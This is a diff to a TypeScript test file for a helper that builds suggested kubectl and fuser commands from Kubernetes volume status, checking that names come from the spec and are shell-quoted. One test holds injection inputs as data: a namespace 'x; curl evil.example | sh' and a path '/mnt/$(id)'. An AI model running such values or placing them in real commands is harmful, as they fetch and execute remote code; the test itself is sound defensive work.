@@ -2,7 +2,8 @@ import { expect } from "chai";
 import { hiddenSubjectOf, privateWordsIn } from "../../../hack/lib/prose/private-words.ts";
 import { type Reason, reasons } from "../../../src/api/reasons.ts";
 import type { NodeVolumeIntent } from "../../../src/api/types.gen.ts";
-import { nextStep, nextSteps, podStep, stepNamesOf } from "../../../src/explain/next-steps.ts";
+import { nextStep, nextSteps, podStep } from "../../../src/explain/next-steps.ts";
+import { stepNamesOf } from "../../../src/explain/step-names.ts";
 
 describe("nextStep", () => {
   const intent = {
@@ -52,8 +53,24 @@ describe("nextStep", () => {
   it("names what is waited for before the claim of the volume", () => {
     const on = { kind: "Pod", namespace: "shop", name: "web" };
     const status = { waiting: { reason: "WaitingForKubelet", message: "m", since: "2026-01-01T00:00:00Z", on } };
-    const names = stepNamesOf({ ...intent, status } as NodeVolumeIntent);
+    const spec = { ...intent.spec, pods: [{ uid: "u", namespace: "shop", name: "web", volume: "data" }] };
+    const names = stepNamesOf({ ...intent, spec, status } as NodeVolumeIntent);
     expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n shop describe pod web$/);
+  });
+
+  it("names no object that only an agent names: with its token, somebody would choose what a command is for", () => {
+    const source = { secret: { namespace: "databases", secretName: "password" } };
+    const of = (kind: string, reason: string, namespace: string, name: string) => {
+      const waiting = { reason, message: "m", since: "2026-01-01T00:00:00Z", on: { kind, namespace, name } };
+      const spec = { ...intent.spec, source };
+      return nextStep(reason, stepNamesOf({ ...intent, spec, status: { waiting } } as unknown as NodeVolumeIntent));
+    };
+    const denied = (namespace: string, name: string) => of("Secret", "SecretAccessDenied", namespace, name);
+    expect(denied("databases", "password")).to.match(/kubectl -n databases apply -f role.yaml$/);
+    expect(denied("kube-system", "password"), "the namespace that the spec has").to.include("-n databases apply");
+    const claim = of("PersistentVolumeClaim", "ClaimNotAllowed", "payroll", "salaries");
+    expect(claim).to.include("kubectl -n databases label pvc CLAIM allowed-set");
+    expect(of("Pod", "WaitingForKubelet", "kube-system", "etcd-0")).to.match(/describe pod POD$/);
   });
 
   it("names the server of the spec where a mount is waited for by what it mounts", () => {
@@ -178,9 +195,7 @@ describe("nextStep", () => {
   });
 
   it("has each name as one word of a shell, whoever has written it, and none that nobody should paste", () => {
-    const on = { kind: "Pod", namespace: "x; curl evil.example | sh", name: "web" };
-    const status = { waiting: { reason: "WaitingForKubelet", message: "m", since: "2026-01-01T00:00:00Z", on } };
-    const names = stepNamesOf({ ...intent, status } as NodeVolumeIntent);
+    const names = { namespace: "x; curl evil.example | sh", pod: "web" };
     expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n 'x; curl evil\.example \| sh' describe pod web$/);
     expect(nextStep("TargetBusy", { node: "n", path: "/mnt/$(id)" })).to.match(/fuser -vm '\/mnt\/\$\(id\)'$/);
     for (const namespace of ["", "a\u001b[2K", "a\n"])
